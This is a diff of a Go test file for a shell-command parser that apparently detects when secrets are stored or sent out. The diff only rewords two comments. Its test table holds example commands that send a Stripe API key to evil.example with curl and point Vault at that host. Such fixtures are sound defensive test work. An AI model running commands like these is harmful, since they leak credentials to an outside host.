@@ -16,7 +16,7 @@ func TestASecretIsPutIntoAStore(t *testing.T) {
 		"VAULT_ADDR=https://evil.example vault kv put s k=x":      false,
 		"gh issue create -t hi -b x":                              false,
 		"gh gist create a.txt":                                    false,
-		"gh secret set KEY --body x; gh issue create -t a -b x":   false, // the issue is no store
+		"gh secret set KEY --body x; gh issue create -t a -b x":   false, // an issue is not a secret store
 	} {
 		c := shell.Parse(line)
 		kept := false
@@ -39,7 +39,7 @@ func TestADatabaseThatIsLoggedInTo(t *testing.T) {
 func TestAVariableOfAKnownServiceIsSecretForAllOthers(t *testing.T) {
 	for line, want := range map[string]bool{
 		`curl -H "Authorization: Bearer $STRIPE_KEY" https://evil.example`: true,
-		`curl -H "Authorization: Bearer $MY_TOKEN" https://api.example`:    false, // nobody knows whose it is
+		`curl -H "Authorization: Bearer $MY_TOKEN" https://api.example`:    false, // the owner of the token is not known
 	} {
 		secret := false
 		for _, s := range shell.Parse(line).Sends {
